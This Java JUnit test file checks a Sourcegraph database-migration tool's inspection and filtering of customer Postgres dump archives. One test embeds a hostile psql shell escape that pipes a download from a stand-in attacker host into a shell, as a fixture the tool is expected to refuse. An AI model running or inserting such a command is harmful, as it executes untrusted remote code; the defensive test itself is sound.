package io.sgmigrate.engine.inspect;

import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.sgmigrate.engine.Problem;
import io.sgmigrate.engine.dump.DumpFilter;
import io.sgmigrate.engine.payload.Abortable;
import io.sgmigrate.engine.secret.Secret;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * A customer's archive (real pg_dump and pg_dumpall fixtures in the layouts customers send), inspected and read again
 * into sinks through the dump filter: what each sink receives is exactly the filter's output, and a sink is completed only
 * when the whole file proved to be the one inspected.
 */
class CustomerFileTest {
    private static final String FIXTURES = "/io/sgmigrate/engine/dump/";

    @TempDir
    Path dir;

    private static byte[] fixture(String name) throws IOException {
        try (InputStream in = CustomerFileTest.class.getResourceAsStream(FIXTURES + name)) {
            return in.readAllBytes();
        }
    }

    private Path tarGz(String name, Map<String, byte[]> entries) throws IOException {
        return io.sgmigrate.support.TarGz.write(dir.resolve(name), entries);
    }

    private Path symmetric(Path plain, String passphrase) throws Exception {
        Path home = Files.createDirectories(dir.resolve("gnupg"));
        Files.setPosixFilePermissions(home, java.nio.file.attribute.PosixFilePermissions.fromString("rwx------"));
        Path out = dir.resolve(plain.getFileName() + ".asc");
        Process p = new ProcessBuilder("gpg", "--homedir", home.toString(), "--batch", "--yes", "--pinentry-mode", "loopback",
                "--passphrase", passphrase, "--armor", "--symmetric", "--output", out.toString(), plain.toString())
                .redirectErrorStream(true).start();
        String said = new String(p.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
        assertEquals(0, p.waitFor(), said);
        return out;
    }

    private static PayloadKeys none() {
        return new PayloadKeys(List.of(), () -> null, Optional.empty(), List.of(), Optional.empty());
    }

    private static byte[] filtered(byte[] dump, String section) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (DumpFilter f = new DumpFilter(out, CustomerFile.COMPOSE_ROLE, section)) {
            f.write(dump);
        }
        return out.toByteArray();
    }

    /** A sink that records whether it was completed (closed) or aborted. */
    private static class Sink extends ByteArrayOutputStream implements Abortable {
        boolean closed;
        boolean aborted;

        @Override
        public void close() {
            closed = true;
        }

        @Override
        public void abort() {
            aborted = true;
        }
    }

    @Test
    void aSrcSnapshotArchiveEncryptedToAPassphraseIsScannedAndReadThroughTheFilter() throws Exception {
        byte[] frontend = fixture("pg_dump-create-clean.sql");
        byte[] codeintel = fixture("pg_dump-codeintel.sql");
        Map<String, byte[]> entries = new LinkedHashMap<>();
        entries.put("src-snapshot/", new byte[0]);
        entries.put("src-snapshot/pgsql.sql", frontend);
        entries.put("src-snapshot/codeintel.sql", codeintel);
        entries.put("src-snapshot/summary.json", "{\"version\": \"5.0.5\"}".getBytes(StandardCharsets.UTF_8));
        Path f = symmetric(tarGz("customer.tar.gz", entries), "customer passphrase");
        PayloadKeys keys = PayloadKeys.passphrase(Secret.adopt("customer passphrase".toCharArray()));

        PayloadInspector.Found found = PayloadInspector.examine(f, keys, n -> {});
        PayloadInspection p = found.inspection();
        assertTrue(p.passed(), p.problems().toString());
        assertEquals("tar.gz in an ASCII-armored OpenPGP message", p.kind());
        assertEquals("encrypted to a passphrase", p.protection());
        assertTrue(p.layout().startsWith("src snapshot databases"), p.layout());
        assertEquals(Optional.of("5.0.5"), p.sourcegraphVersion(), "from the dump's versions table");
        assertEquals(Optional.of("https://sourcegraph.example.com"), p.externalUrl());
        assertEquals(Optional.empty(), found.siteConfig(), "src snapshot brings no site configuration file");
        assertEquals(List.of("frontend", "codeintel"), p.dumps().stream().map(PayloadInspection.Dump::role).toList());
        assertEquals(4L, p.dumps().get(0).rows().get("public.repo"));
        assertEquals(2L, p.dumps().get(1).rows().get("public.lsif_uploads"));
        assertTrue(p.dumps().get(0).neutralised().containsKey("CREATE DATABASE"), p.dumps().get(0).neutralised().toString());
        assertTrue(p.dumps().get(0).neutralised().containsKey("DROP DATABASE"), p.dumps().get(0).neutralised().toString());
        assertEquals(List.of("frontend", "codeintel", "summary"), p.entries().stream().map(PayloadInspection.Entry::role).toList());
        assertTrue(p.text().contains("left out for a strict restore: "), p.text());

        Map<String, Sink> sinks = new LinkedHashMap<>();
        PayloadInspector.read(f, keys, p, d -> sinks.computeIfAbsent(d.role(), r -> new Sink()), n -> {});
        assertArrayEquals(filtered(frontend, null), sinks.get("frontend").toByteArray());
        assertArrayEquals(filtered(codeintel, null), sinks.get("codeintel").toByteArray());
        assertTrue(sinks.values().stream().allMatch(s -> s.closed && !s.aborted));
        String restored = new String(sinks.get("frontend").toByteArray(), StandardCharsets.UTF_8);
        assertTrue(restored.contains("\n-- CREATE DATABASE sg WITH"), "the statement is left out");
        assertTrue(restored.contains("\nCREATE DATABASE x;\t2\n"), "a COPY row that looks like it stays");
    }

    @Test
    void aCodeInsightsDumpKeepsOwnershipByPostgresTheOnlyRoleOfCodeinsightsDbAndLeavesOutSg() throws Exception {
        String insights = "CREATE TABLE public.series_points (series_id text, value double precision);\n"
                + "ALTER TABLE public.series_points OWNER TO sg;\n"
                + "CREATE TABLE public.insight_series (id integer);\n"
                + "ALTER TABLE public.insight_series OWNER TO postgres;\n"
                + "COPY public.series_points (series_id, value) FROM stdin;\ns1\t1\n\\.\n";
        Map<String, byte[]> entries = new LinkedHashMap<>();
        entries.put("src-snapshot/pgsql.sql", fixture("pg_dump-plain.sql"));
        entries.put("src-snapshot/codeinsights.sql", insights.getBytes(StandardCharsets.UTF_8));
        Path f = tarGz("insights.tar.gz", entries);
        PayloadInspection p = PayloadInspector.inspect(f, none(), n -> {});
        assertTrue(p.passed(), p.problems().toString());
        assertEquals(List.of("frontend", "codeinsights"), p.dumps().stream().map(PayloadInspection.Dump::role).toList());
        assertEquals(Map.of("OWNER TO sg", 1L), p.dumps().get(1).neutralised(), "what the scan counts is what the restore leaves out");
        Map<String, Sink> sinks = new LinkedHashMap<>();
        PayloadInspector.read(f, none(), p, d -> sinks.computeIfAbsent(d.role(), r -> new Sink()), n -> {});
        String restored = new String(sinks.get("codeinsights").toByteArray(), StandardCharsets.UTF_8);
        assertFalse(restored.contains("\nALTER TABLE public.series_points OWNER TO sg;"), restored);
        assertTrue(restored.contains("\nALTER TABLE public.insight_series OWNER TO postgres;"), restored);
        assertTrue(restored.contains("\ns1\t1\n"), restored);
    }

    @Test
    void aDumpallsCodeInsightsSectionIsCountedAsItIsRestoredByPostgresAndTheFrontendsBySg() throws Exception {
        String all = "--\n-- PostgreSQL database cluster dump\n--\n"
                + "\\connect sg\n"
                + "CREATE TABLE public.users (id integer);\nALTER TABLE public.users OWNER TO postgres;\nCREATE TABLE public.repo (id integer);\n"
                + "COPY public.users (id) FROM stdin;\n1\n\\.\n"
                + "\\connect insights\n"
                + "CREATE TABLE public.insight_series (id integer);\nALTER TABLE public.insight_series OWNER TO postgres;\n"
                + "CREATE TABLE public.series_points (id integer);\nALTER TABLE public.series_points OWNER TO sg;\n";
        Path f = tarGz("all.tar.gz", Map.of("all.sql", all.getBytes(StandardCharsets.UTF_8)));
        PayloadInspection p = PayloadInspector.inspect(f, none(), n -> {});
        assertTrue(p.passed(), p.problems().toString());
        assertEquals(List.of("frontend", "codeinsights"), p.dumps().stream().map(PayloadInspection.Dump::role).toList());
        assertEquals(1L, p.dumps().get(0).neutralised().get("OWNER TO postgres"), p.dumps().get(0).neutralised().toString());
        assertEquals(1L, p.dumps().get(1).neutralised().get("OWNER TO sg"), p.dumps().get(1).neutralised().toString());
        assertFalse(p.dumps().get(1).neutralised().containsKey("OWNER TO postgres"), "postgres owns what codeinsights-db restores: " + p.dumps().get(1).neutralised());
        Map<String, Sink> sinks = new LinkedHashMap<>();
        PayloadInspector.read(f, none(), p, d -> sinks.computeIfAbsent(d.role(), r -> new Sink()), n -> {});
        String insights = new String(sinks.get("codeinsights").toByteArray(), StandardCharsets.UTF_8);
        assertTrue(insights.contains("\nALTER TABLE public.insight_series OWNER TO postgres;"), insights);
        assertFalse(insights.contains("\nALTER TABLE public.series_points OWNER TO sg;"), insights);
        assertFalse(new String(sinks.get("frontend").toByteArray(), StandardCharsets.UTF_8).contains("\nALTER TABLE public.users OWNER TO postgres;"));
    }

    @Test
    void aWholeClusterDumpallIsTakenApartIntoOneSinkPerSourcegraphDatabase() throws Exception {
        byte[] all = fixture("pg_dumpall.sql");
        Path f = tarGz("all.tar.gz", Map.of("all.sql", all));
        PayloadInspection p = PayloadInspector.inspect(f, none(), n -> {});
        assertTrue(p.passed(), p.problems().toString());
        assertTrue(p.layout().contains("pg_dumpall"), p.layout());
        assertTrue(p.warnings().stream().anyMatch(w -> w.contains("NOT ENCRYPTED")), p.warnings().toString());
        assertFalse(p.encrypted());
        assertEquals(List.of("frontend", "codeintel"), p.dumps().stream().map(PayloadInspection.Dump::role).toList());
        assertEquals(List.of("sg", "sg-codeintel"), p.dumps().stream().map(PayloadInspection.Dump::section).toList());
        assertEquals("cluster", p.entries().get(0).role());

        Map<String, Sink> sinks = new LinkedHashMap<>();
        PayloadInspector.read(f, none(), p, d -> sinks.computeIfAbsent(d.role(), r -> new Sink()), n -> {});
        assertArrayEquals(filtered(all, "sg"), sinks.get("frontend").toByteArray());
        assertArrayEquals(filtered(all, "sg-codeintel"), sinks.get("codeintel").toByteArray());
        assertFalse(new String(sinks.get("frontend").toByteArray(), StandardCharsets.UTF_8).contains("lsif_uploads"), "only its own section");
    }

    @Test
    void aDumpWithAShellEscapeIsRefusedInTheFirstReadingBeforeAnySinkIsOpened() throws Exception {
        String dump = new String(fixture("pg_dump-create-clean.sql"), StandardCharsets.UTF_8) + "\\! curl -s https://evil.example | sh\n";
        Path f = tarGz("hostile.tar.gz", Map.of("src-snapshot/pgsql.sql", dump.getBytes(StandardCharsets.UTF_8)));
        io.sgmigrate.engine.Problem p = org.junit.jupiter.api.Assertions.assertThrows(io.sgmigrate.engine.Problem.class,
                () -> PayloadInspector.inspect(f, none(), n -> {}));
        assertTrue(p.what().contains("psql command \"\\! curl -s https://evil.example | sh\""), p.what());
        assertTrue(p.what().contains("Refused"), p.what());
    }

    @Test
    void aManagedInstanceSeedBringsItsSiteConfigurationFile() throws Exception {
        String site = "{\n  // the customer's note\n  \"externalURL\": \"https://old.example.com\"\n}\n";
        Map<String, byte[]> entries = new LinkedHashMap<>();
        entries.put("seed/pgsql_dump.sql", fixture("pg_dump-owners.sql"));
        entries.put("seed/site-config.json", site.getBytes(StandardCharsets.UTF_8));
        entries.put("seed/notes.txt", "hello".getBytes(StandardCharsets.UTF_8));
        Path f = tarGz("seed.tar.gz", entries);
        PayloadInspector.Found found = PayloadInspector.examine(f, none(), n -> {});
        PayloadInspection p = found.inspection();
        assertTrue(p.passed(), p.problems().toString());
        assertTrue(p.layout().startsWith("managed-instance seed"), p.layout());
        assertEquals(Optional.of(site), found.siteConfig());
        assertEquals(Optional.of("seed/site-config.json"), p.siteConfigEntry());
        assertEquals(Optional.of("https://old.example.com"), p.externalUrl(), "the file's, not the dump's");
        assertTrue(p.warnings().stream().anyMatch(w -> w.contains("seed/notes.txt")), p.warnings().toString());
        assertTrue(p.dumps().get(0).neutralised().keySet().stream().anyMatch(k -> k.startsWith("OWNER TO")), p.dumps().get(0).neutralised().toString());
    }

    @Test
    void aDumpNamedForOneDatabaseButHoldingAnotherIsAProblem() throws Exception {
        Path f = tarGz("wrong.tar.gz", Map.of("src-snapshot/pgsql.sql", fixture("pg_dump-codeintel.sql")));
        PayloadInspection p = PayloadInspector.inspect(f, none(), n -> {});
        assertFalse(p.passed());
        assertTrue(p.problems().stream().anyMatch(s -> s.contains("named as the frontend database's dump but holds the codeintel")), p.problems().toString());
        assertTrue(p.problems().contains("no frontend database dump"), p.problems().toString());
    }

    @Test
    void aFileChangedBetweenTheTwoReadingsAbortsEverySinkAndCompletesNone() throws Exception {
        byte[] frontend = fixture("pg_dump-plain.sql");
        Path f = tarGz("customer.tar.gz", Map.of("pgsql.sql", frontend));
        PayloadInspection p = PayloadInspector.inspect(f, none(), n -> {});
        assertTrue(p.passed(), p.problems().toString());
        byte[] changed = new String(frontend, StandardCharsets.UTF_8).replace("alice", "mallo").getBytes(StandardCharsets.UTF_8);
        tarGz("customer.tar.gz", Map.of("pgsql.sql", changed));
        List<Sink> sinks = new ArrayList<>();
        Problem e = assertThrows(Problem.class, () -> PayloadInspector.read(f, none(), p, d -> {
            Sink s = new Sink();
            sinks.add(s);
            return s;
        }, n -> {}));
        assertTrue(e.what().contains("changed since it was checked"), e.what());
        assertEquals(1, sinks.size());
        assertTrue(sinks.get(0).aborted && !sinks.get(0).closed, "the restore is never completed from a changed file");
    }

    @Test
    void aSinkThatFailsIsAbortedNotCompleted() throws Exception {
        Path f = tarGz("customer.tar.gz", Map.of("pgsql.sql", fixture("pg_dump-plain.sql")));
        PayloadInspection p = PayloadInspector.inspect(f, none(), n -> {});
        Sink[] made = new Sink[1];
        IOException e = assertThrows(IOException.class, () -> {
            try {
                PayloadInspector.read(f, none(), p, d -> made[0] = new Sink() {
                    @Override
                    public void write(byte[] b, int off, int len) {
                        throw new java.io.UncheckedIOException(new IOException("psql went away"));
                    }
                }, n -> {});
            } catch (java.io.UncheckedIOException x) {
                throw x.getCause();
            }
        });
        assertEquals("psql went away", e.getMessage());
        assertTrue(made[0].aborted && !made[0].closed);
    }
}
